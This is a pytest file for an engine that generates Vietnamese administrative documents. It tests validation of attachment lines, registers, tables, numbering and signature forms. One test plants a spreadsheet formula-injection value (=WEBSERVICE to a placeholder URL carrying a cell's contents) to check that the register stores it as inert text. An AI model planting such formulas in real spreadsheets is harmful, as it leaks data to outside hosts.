"""Text the engine refuses or fixes (issue 12, items 5 and 6): the "(Kèm theo …)" line, the
register's recipients and dates, "V/v V/v", the "/." before a table, the campaign's `so`, a body
that no longer existed, table rows against their columns, cell formatting, signature forms.

Every refusal is a located Problem: its line, field and code are asserted.
"""

from __future__ import annotations

import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine

from engine.campaign.loader import load_campaign
from engine.db.connect import open_engine
from engine.document.context import build
from engine.errors import InputError, WorkflowError
from engine.output.generate import generate
from engine.word.reader import Docx
from engine.word.rule_lines import text_width_pt
from engine.workflow import act, draft, issue, rows
from engine.workflow.register_book import write_register
from engine.workflow.states import State
from tests.helpers import PROFILE, dump
from tests.office import Office, office

SIGNERS = [{"ma": "ct-a", "ho_ten": "Nguyễn Văn An", "chuc_vu": "Chủ tịch"},
           {"ma": "pct-b", "ho_ten": "Trần Thị Bình", "chuc_vu": "Phó Chủ tịch"},
           {"ma": "ct-dai", "ho_ten": "Lê Văn Cường",
            "chuc_vu": "Chủ tịch Ủy ban nhân dân xã An Bình"}]
HEAD = "co_quan: co-quan.yaml\nchien_dich:\n  ten: Phong trào\nvan_ban:\n"


def write(folder: Path, body: str, **profile: Any) -> Path:
    """Write a profile (PROFILE with more signers and `profile`) and the campaign `HEAD + body`."""
    (folder / "co-quan.yaml").write_text(dump({**PROFILE, "nguoi_ky": SIGNERS, **profile}),
                                         "utf-8")
    path = folder / "chien-dich.yaml"
    path.write_text(HEAD + body, "utf-8")
    return path


def directive(ma: str = "ct-01", *, extra: str = "", body: str = "      - Đoạn một.\n",
              sign: str = "ct-a", authority: str = "[]") -> str:
    return (f"  - ma: {ma}\n    loai: chi_thi\n    trich_yeu: Về cải cách\n{extra}"
            f"    noi_dung:\n{body}"
            f"    ky:\n      nguoi_ky: {sign}\n      quyen_han: {authority}\n")


def problems(path: Path) -> list[tuple[int | None, str, str]]:
    with pytest.raises(InputError) as caught:
        load_campaign(path)
    return [(p.line, p.field, p.code) for p in caught.value.problems]


def line_of(path: Path, needle: str, nth: int = 1) -> int:
    """The line number of the `nth` line of `path` that contains `needle`."""
    found = [i for i, line in enumerate(path.read_text("utf-8").splitlines(), 1)
             if needle in line]
    return found[nth - 1]


def plain(text: str) -> str:
    """`text` without the non-breaking forms of spaces and hyphens (helper layout's typesetting)."""
    return text.replace("\xa0", " ").replace("\u2011", "-").replace("\u2060", "")


def texts(opened: Docx) -> list[str]:
    return [plain(p.text) for p in opened.paragraphs()]


def generated(path: Path, out: Path, ma: str) -> Docx:
    generate([path], out, workers=1)
    return Docx((out / path.stem / f"{ma}.docx").read_bytes())


# Item 5: the "(Kèm theo …)" line -------------------------------------------------------------

@pytest.mark.parametrize(("sign", "authority", "issuer"), [
    ("ct-a", "[TM]", "của Ủy ban nhân dân xã An Bình"),
    ("ct-a", "[]", "của Chủ tịch Ủy ban nhân dân xã An Bình"),
    ("pct-b", "[KT]", "của Chủ tịch Ủy ban nhân dân xã An Bình"),
    ("pct-b", "[TM, KT]", "của Ủy ban nhân dân xã An Bình"),
])
def test_the_attached_line_writes_the_date_in_words_and_the_real_authority(
        tmp_path: Path, sign: str, authority: str, issuer: str) -> None:
    decision = ("  - ma: qd-25\n    loai: quyet_dinh\n    so: \"25\"\n    ngay: 2025-07-23\n"
                "    trich_yeu: Ban hành Kế hoạch\n    noi_dung:\n      - van_ban: Ban hành.\n"
                f"    ky:\n      nguoi_ky: {sign}\n      quyen_han: {authority}\n")
    plan = ("  - ma: kh\n    loai: ke_hoach\n    kem_theo: qd-25\n    trich_yeu: Kế hoạch\n"
            "    noi_dung:\n      - Đoạn.\n    phu_luc:\n      - tieu_de: Danh mục\n"
            "        noi_dung:\n          - Mục một.\n")
    opened = generated(write(tmp_path, decision + plan), tmp_path / "out", "kh")
    lines = [text for text in texts(opened) if text.startswith("(Kèm theo")]
    assert lines == [
        f"(Kèm theo Quyết định số 25/QĐ-UBND ngày 23 tháng 7 năm 2025 {issuer})",
        "(Kèm theo Kế hoạch ban hành kèm theo Quyết định số 25/QĐ-UBND ngày 23 tháng 7 năm "
        f"2025 {issuer})"]


def test_a_resolution_is_always_its_council_s(tmp_path: Path) -> None:
    resolution = ("  - ma: nq\n    loai: nghi_quyet\n    so: \"12\"\n    ngay: 2020-12-23\n"
                  "    trich_yeu: Về kế hoạch\n    noi_dung:\n      - van_ban: Thông qua.\n"
                  "    thong_qua:\n      co_quan: Hội đồng nhân dân xã An Bình\n      khoa: III\n"
                  "      ky_hop: thứ mười\n      ngay: 2020-12-23\n      hieu_luc: kể từ ngày ký\n"
                  "    ky:\n      nguoi_ky: ct-a\n")
    plan = ("  - ma: kh\n    loai: ke_hoach\n    kem_theo: nq\n    trich_yeu: Kế hoạch\n"
            "    noi_dung:\n      - Đoạn.\n")
    campaign = load_campaign(write(tmp_path, resolution + plan))
    assert plain(build(campaign, campaign.document("kh"))["kem_theo"]).endswith(
        "ngày 23 tháng 12 năm 2020 của Ủy ban nhân dân xã An Bình)")


# Item 5: the register's recipients and dates ---------------------------------------------------

def _office(tmp_path: Path, **profile: Any) -> tuple[Engine, Office]:
    (tmp_path / "co-quan.yaml").write_text(dump({**PROFILE, **profile}), "utf-8")
    engine = open_engine(f"sqlite:///{tmp_path / 'v.db'}")
    return engine, office(engine, tmp_path / "co-quan.yaml")


def _signed(engine: Engine, staff: Office, doc_id: str) -> None:
    act(engine, doc_id, "trinh", staff.drafter)
    act(engine, doc_id, "duyet", staff.reviewer)
    act(engine, doc_id, "ky", staff.signer)


def _at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def test_the_register_lists_the_recipients_not_as_above(tmp_path: Path) -> None:
    engine, staff = _office(tmp_path)
    path = tmp_path / "chien-dich.yaml"
    path.write_text(HEAD + (
        "  - ma: cv-1\n    loai: cong_van\n    don_vi_soan_thao: VP\n"
        "    trich_yeu: V/v triển khai\n    kinh_gui:\n      - Các thôn\n"
        "      - Trường Tiểu học An Bình\n    noi_dung:\n      - Đoạn.\n"
        "    ky:\n      nguoi_ky: ct-a\n    noi_nhan:\n      - ten: Như Kính gửi\n"
        "        ghi_chu: t/h\n      - Thường trực HĐND xã\n"), "utf-8")
    doc_id = draft(engine, path, tmp_path / "out", staff.drafter).ids[0]
    _signed(engine, staff, doc_id)
    issue(engine, doc_id, staff.clerk, _at("2026-01-15T03:00:00"))
    register = write_register(engine, 2026, tmp_path / "so.docx")[0]
    printed = texts(Docx(register.read_bytes()))
    assert "Các thôn; Trường Tiểu học An Bình; Thường trực HĐND xã" in printed
    assert not any("Như Kính gửi" in text for text in printed)
    assert "Công văn triển khai" in printed  # the typed "V/v" is not printed twice either


def test_the_register_date_columns_fit_a_date_on_one_line() -> None:
    """"15/01/2026" must not break inside (it did as "15/01/20 | 26"): the date columns (2)
    and (8) of the register template are wide enough for the widest date at 13 pt plus the
    cells' default margins (2 × 108 twips)."""
    from engine.document.templates import default_templates

    with zipfile.ZipFile(default_templates() / "registers/so_dang_ky_van_ban_di.docx") as docx:
        xml = docx.read("word/document.xml").decode("utf-8")
    widths = [int(w) for w in re.findall(r'<w:gridCol w:w="(\d+)"/>', xml)]
    needed = round(max(text_width_pt(day, 13) for day in ("28/12/2026", "08/08/2026")) * 20)
    assert min(widths[1], widths[7]) >= needed + 2 * 108, widths


# Item 6: "V/v V/v" -----------------------------------------------------------------------------

LETTER = ("  - ma: cv-1\n    loai: cong_van\n    don_vi_soan_thao: VP\n"
          "    trich_yeu: {trich_yeu}\n    kinh_gui:\n      - Các thôn\n"
          "    noi_dung:\n      - Đoạn.\n    ky:\n      nguoi_ky: ct-a\n")


@pytest.mark.parametrize("typed", ["V/v hướng dẫn cải cách", "v/v hướng dẫn cải cách",
                                   "\"V/V: hướng dẫn cải cách\""])
def test_a_typed_v_v_is_printed_once(tmp_path: Path, typed: str) -> None:
    path = write(tmp_path, LETTER.format(trich_yeu=typed))
    text = plain(generated(path, tmp_path / "out", "cv-1").text())
    assert "V/v hướng dẫn cải cách" in text
    assert not re.search(r"v/v\W+v/v", text, re.IGNORECASE)


def test_a_trich_yeu_of_only_v_v_is_refused(tmp_path: Path) -> None:
    path = write(tmp_path, LETTER.format(trich_yeu="V/v"))
    assert problems(path) == [(line_of(path, "trich_yeu"), "van_ban[0].trich_yeu",
                               "empty-value")]


# Item 6: "/." and tables -----------------------------------------------------------------------

TABLE = ("      - tieu_de: Bảng\n        bang:\n          cot: [STT, Nội dung, Kinh phí]\n"
         "          dong:\n{rows}")


def test_a_body_ending_with_a_table_is_refused(tmp_path: Path) -> None:
    body = "      - Đoạn một.\n" + TABLE.format(rows="            - [\"1\", Một, \"100\"]\n")
    path = write(tmp_path, directive(body=body))
    assert problems(path) == [(line_of(path, "bang:"), "van_ban[0].noi_dung[1].bang",
                               "ends-with-table")]


def test_the_end_mark_ends_the_paragraph_after_a_table_not_the_one_before(tmp_path: Path) -> None:
    body = ("      - Đoạn trước bảng.\n"
            + TABLE.format(rows="            - [\"1\", Một, \"100\"]\n")
            + "      - Đoạn sau bảng.\n")
    opened = generated(write(tmp_path, directive(body=body)), tmp_path / "out", "ct-01")
    printed = texts(opened)
    assert "Đoạn trước bảng." in printed and "Đoạn sau bảng./." in printed
    assert [t for t in printed if t.endswith("/.")] == ["Đoạn sau bảng./."]


@pytest.mark.parametrize(("row", "cells"), [("[\"1\", Một, \"100\", thừa]", 4),
                                            ("[\"1\", Một]", 2)])
def test_a_row_that_does_not_fill_the_columns_is_a_problem(tmp_path: Path, row: str,
                                                           cells: int) -> None:
    body = (TABLE.format(rows=f"            - [\"1\", Đúng, \"5\"]\n            - {row}\n")
            + "      - Đoạn cuối.\n")
    path = write(tmp_path, directive(body=body))
    with pytest.raises(InputError) as caught:
        load_campaign(path)
    [problem] = caught.value.problems
    assert (problem.line, problem.field, problem.code) == (
        line_of(path, row), "van_ban[0].noi_dung[0].bang.dong[1]", "table-row-length")
    assert f"dòng 2 của bảng có {cells} ô nhưng bảng có 3 cột" in problem.message


def test_cells_can_be_bold_aligned_and_merged(tmp_path: Path) -> None:
    rows = ("            - [{van_ban: I. TẬP THỂ, dam: \"true\", gop: \"3\"}]\n"
            "            - [\"1\", Xã An Bình, {van_ban: 1.800.000, can: phai}]\n")
    body = TABLE.format(rows=rows) + "      - Đoạn cuối.\n"
    generate([write(tmp_path, directive(body=body))], tmp_path / "out", workers=1)
    with zipfile.ZipFile(tmp_path / "out" / "chien-dich" / "ct-01.docx") as docx:
        xml = docx.read("word/document.xml").decode("utf-8")
    group, amount = (cell_of(xml, text) for text in ("I. TẬP THỂ", "1.800.000"))
    assert '<w:gridSpan w:val="3"/>' in group and "<w:b/>" in group
    assert '<w:jc w:val="right"/>' in amount and "<w:b/>" not in amount


def cell_of(xml: str, text: str) -> str:
    """The XML of the table cell whose text is `text`."""
    cells = [cell for cell in re.findall(r"<w:tc>.*?</w:tc>", xml) if text in cell]
    assert len(cells) == 1, cells
    return str(cells[0])


def test_a_wrong_cell_option_is_a_problem(tmp_path: Path) -> None:
    rows = "            - [\"1\", Một, {van_ban: \"100\", can: phải}]\n"
    path = write(tmp_path, directive(body=TABLE.format(rows=rows) + "      - Cuối.\n"))
    assert problems(path) == [(line_of(path, "can: phải"),
                               "van_ban[0].noi_dung[0].bang.dong[0][2].can", "bad-value")]


# Item 6: a body that did not exist on the document's date --------------------------------------

def test_a_document_dated_after_its_body_ended_is_refused(tmp_path: Path) -> None:
    path = write(tmp_path, directive(extra="    ngay: 2025-07-15\n")
                 + directive("ct-02", extra="    ngay: 2025-06-30\n"),
                 hieu_luc_den="2025-06-30")
    assert problems(path) == [(line_of(path, "ngay:"), "van_ban[0].ngay", "body-not-existing")]


def test_a_profile_validity_that_does_not_exist_is_a_problem(tmp_path: Path) -> None:
    path = write(tmp_path, directive(), hieu_luc_den="2025-06-31")
    assert [(f, c) for _, f, c in problems(path)] == [("hieu_luc_den", "bad-date")]


def test_issuing_after_the_body_ended_is_refused_and_changes_nothing(tmp_path: Path) -> None:
    engine, staff = _office(tmp_path, hieu_luc_den="2025-06-30")
    path = tmp_path / "chien-dich.yaml"
    path.write_text(HEAD + directive(authority="[TM]"), "utf-8")
    doc_id = draft(engine, path, tmp_path / "out", staff.drafter).ids[0]
    _signed(engine, staff, doc_id)
    with pytest.raises(WorkflowError) as caught:
        issue(engine, doc_id, staff.clerk, _at("2025-07-01T03:00:00"))
    assert caught.value.code == "body-not-existing" and "30/6/2025" in caught.value.message
    row = next(rows(engine, doc_id))
    assert (State(row.state), row.number) == (State.SIGNED, None)
    assert issue(engine, doc_id, staff.clerk, _at("2025-06-30T03:00:00")).number == 1


# Item 6: the campaign's `so` at issuance -------------------------------------------------------

def test_so_opens_the_register_and_a_so_the_register_passed_is_refused(tmp_path: Path) -> None:
    engine, staff = _office(tmp_path)
    path = tmp_path / "chien-dich.yaml"
    path.write_text(HEAD + directive(extra="    so: \"07\"\n") + directive("ct-02")
                    + directive("ct-03", extra="    so: \"03\"\n"), "utf-8")
    first, second, third = draft(engine, path, tmp_path / "out", staff.drafter).ids
    for doc_id in (first, second, third):
        _signed(engine, staff, doc_id)
    opened = issue(engine, first, staff.clerk, _at("2025-03-02T03:00:00"))
    assert opened.number == 7
    assert "Số: 07/CT-UBND" in plain(Docx(Path(opened.docx).read_bytes()).text())
    assert issue(engine, second, staff.clerk, _at("2025-03-03T03:00:00")).number == 8
    with pytest.raises(WorkflowError) as caught:
        issue(engine, third, staff.clerk, _at("2025-03-04T03:00:00"))
    assert caught.value.code == "number-taken" and "số tiếp theo là 09" in caught.value.message
    row = next(rows(engine, third))
    assert (State(row.state), row.number) == (State.SIGNED, None)


# Item 6: signature forms -----------------------------------------------------------------------

def test_wrong_signature_forms_are_all_refused_at_once(tmp_path: Path) -> None:
    path = write(tmp_path, directive("ct-01", authority="[KT]")
                 + directive("ct-02", sign="pct-b", authority="[TM]")
                 + directive("ct-03", sign="ct-dai", authority="[TM]")
                 + directive("ct-04", sign="pct-b", authority="[TM, KT]")
                 + directive("ct-05", authority="[TM]"))
    with pytest.raises(InputError) as caught:
        load_campaign(path)
    found = [(p.line, p.field, p.code) for p in caught.value.problems]
    assert found == [(line_of(path, "quyen_han", i), f"van_ban[{i - 1}].ky.quyen_han",
                      "bad-authority") for i in (1, 2, 3)]
    head, deputy, repeated = (p.message for p in caught.value.problems)
    assert "không ghi «KT.»" in head and "phải có «KT. CHỦ TỊCH»" in deputy
    assert "lặp lại tên tập thể" in repeated


def test_the_registers_sheet_never_holds_a_formula(tmp_path: Path) -> None:
    """A value typed as a formula (a Nơi nhận "=WEBSERVICE(…)") is written as text."""
    from openpyxl import load_workbook

    engine, staff = _office(tmp_path)
    path = tmp_path / "chien-dich.yaml"
    typed = '=WEBSERVICE("http://127.0.0.1:9/?"&A11)'
    path.write_text(HEAD + (
        "  - ma: cv-1\n    loai: cong_van\n    don_vi_soan_thao: VP\n"
        "    trich_yeu: triển khai\n    kinh_gui:\n      - Các thôn\n"
        "    noi_dung:\n      - Đoạn.\n    ky:\n      nguoi_ky: ct-a\n"
        f"    noi_nhan:\n      - '{typed}'\n"), "utf-8")
    doc_id = draft(engine, path, tmp_path / "out", staff.drafter).ids[0]
    _signed(engine, staff, doc_id)
    issue(engine, doc_id, staff.clerk, _at("2026-01-15T03:00:00"))
    sheet = load_workbook(write_register(engine, 2026, tmp_path / "so.xlsx")[0]).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert any(typed in str(cell.value) for cell in cells)
    assert all(cell.data_type != "f" for cell in cells)


def test_a_long_trich_yeu_prints_whole_and_titles_the_file_shortened(tmp_path: Path) -> None:
    """The schema allows 500 characters; the DOCX title property holds 255 (it failed with an
    internal error): the document prints it whole, the property is cut at a word (issue 14)."""
    import docx

    long = "Về việc " + " ".join(f"triển khai nhiệm vụ số {i} về cải cách hành chính"
                                 for i in range(1, 9))
    assert 255 < len(long) <= 500
    path = write(tmp_path, "  - ma: kh-1\n    loai: ke_hoach\n"
                           f"    trich_yeu: {long}\n    noi_dung:\n      - Đoạn.\n"
                           "    ky:\n      nguoi_ky: ct-a\n    noi_nhan: [Các thôn]\n")
    written = [p for p in generate([path], tmp_path / "out") if p.suffix == ".docx"]
    opened = docx.Document(str(written[0]))
    printed = " ".join(" ".join(p.text.split()) for p in opened.paragraphs)
    assert long in printed
    title = opened.core_properties.title
    assert len(title) <= 255 and title.endswith("…") and long.startswith(title[:-1].rstrip())
